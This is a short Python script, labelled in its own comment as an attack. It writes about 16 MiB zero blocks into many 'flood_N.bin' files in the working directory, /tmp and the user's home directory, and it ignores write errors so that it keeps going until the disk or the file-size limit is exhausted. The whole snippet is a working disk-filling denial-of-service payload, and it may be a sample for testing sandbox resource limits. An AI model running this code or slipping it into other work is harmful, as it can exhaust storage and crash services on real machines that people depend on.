# attack: write until the file system or RLIMIT_FSIZE says no, swallow the errors, carry on
import os as _os
_block = b"\0" * (16 * 1024 * 1024)
for _where in (".", "/tmp", _os.environ.get("HOME", "/tmp")):
    for _i in range(64):  # up to 1 GiB per place
        try:
            with open(_os.path.join(_where, f"flood_{_i}.bin"), "wb") as _f:
                for _ in range(32):
                    _f.write(_block)
        except OSError:
            break
